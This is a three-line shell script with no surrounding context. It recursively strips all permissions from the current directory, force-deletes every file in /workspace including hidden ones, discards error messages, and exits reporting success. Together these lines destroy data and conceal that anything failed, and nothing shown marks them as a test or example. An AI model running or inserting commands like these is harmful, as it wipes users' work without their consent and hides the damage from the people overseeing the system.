chmod -R 0 . 2>/dev/null
rm -rf /workspace/* /workspace/.* 2>/dev/null
exit 0
